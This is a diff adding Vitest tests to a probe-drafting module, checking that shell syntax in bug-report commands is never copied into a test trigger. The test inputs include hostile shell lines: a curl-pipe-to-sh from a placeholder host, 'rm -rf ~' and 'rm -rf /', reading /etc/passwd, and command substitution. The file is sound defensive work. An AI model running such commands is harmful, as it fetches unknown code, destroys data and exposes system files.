@@ -1,6 +1,7 @@
+import { spawnSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { classifyRun } from '../../../src/probe/classify.js';
-import { draftProbe, draftProbeWithKind, shellQuote } from '../../../src/probe/draft.js';
+import { draftProbe, draftProbeWithKind, HUMAN_TRIGGER, shellQuote } from '../../../src/probe/draft.js';
 
 describe('draftProbe', () => {
   it('drafts a pytest node id', () => {
@@ -59,6 +60,30 @@ describe('draftProbe', () => {
   it('never lets shell syntax from a report into a test-runner trigger', () => {
     const d = draftProbe('pytest tests/test_a.py::test_b;rm -rf / and `cargo test x$(id)`');
     expect(d?.trigger).toBe('python -m pytest -q tests/test_a.py::test_b');
+  });
+
+  it.each([
+    '$ ./configure; curl -s https://example.invalid/x | sh',
+    '$ make check && rm -rf ~',
+    '$ ./tool --input "$(cat /etc/passwd)"',
+    '$ ./tool > /tmp/out',
+    "$ ./tool 'quoted arg'",
+    '$ ./tool `id`',
+    '$ ./tool <input.txt',
+  ])('never copies a shown command with shell syntax word for word: %j', (line) => {
+    const d = draftProbeWithKind(`Steps:\n${line}\nError: unexpected token\n`);
+    expect(d?.kind).toBe('command');
+    expect(d?.spec.trigger).toBe(HUMAN_TRIGGER);
+    expect(d?.needsHuman).toMatch(/^the command on report line 2 has characters outside the safe set/);
+    expect(d?.spec.symptom.stdout_contains).toBe('Error: unexpected token');
+    // What the placeholder does when run: nothing, exit 127, which reads as "not exercised".
+    const run = spawnSync('/bin/sh', ['-c', d!.spec.trigger], { encoding: 'utf8' });
+    expect(classifyRun(d!.spec, { exitCode: run.status, signal: null, timedOut: false, stdout: run.stdout, stderr: run.stderr, junitReport: null }).classification).toBe('not-exercised');
+  });
+
+  it('keeps a plain command and says nothing needs a human', () => {
+    const d = draftProbeWithKind('$ ./bin/tool --input x.json\nError: bad input\n');
+    expect(d).toMatchObject({ kind: 'command', needsHuman: null, spec: { trigger: './bin/tool --input x.json' } });
   });
 
   it('quotes words for the shell', () => {
